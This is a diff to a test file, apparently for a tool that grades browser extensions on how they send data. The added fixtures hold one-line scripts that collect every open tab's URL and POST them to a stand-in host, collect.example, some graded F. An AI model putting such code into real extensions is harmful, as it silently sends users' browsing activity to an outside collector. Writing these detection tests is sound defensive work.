@@ -310,6 +310,30 @@ describe('the grade of what sends data', () => {
       ['A+', 'A'],
     ],
     [
+      'the tabs that are open, each time a service worker starts',
+      {
+        background:
+          "chrome.tabs.query({}, (all) => fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(all.map((one) => one.url)) }));",
+      },
+      ['F'],
+    ],
+    [
+      'the same by way of a class',
+      {
+        background:
+          "class App { start() { chrome.tabs.query({}, (all) => this.send(all.map((one) => one.url))); } send(list) { fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(list) }); } } new App().start();",
+      },
+      ['F'],
+    ],
+    [
+      'the same in a page that the person opens',
+      {
+        popup:
+          "chrome.tabs.query({}, (all) => fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(all.map((one) => one.url)) }));",
+      },
+      ['A+', 'A', 'B'],
+    ],
+    [
       'what is typed, to its maker, once that is turned on',
       {
         content:
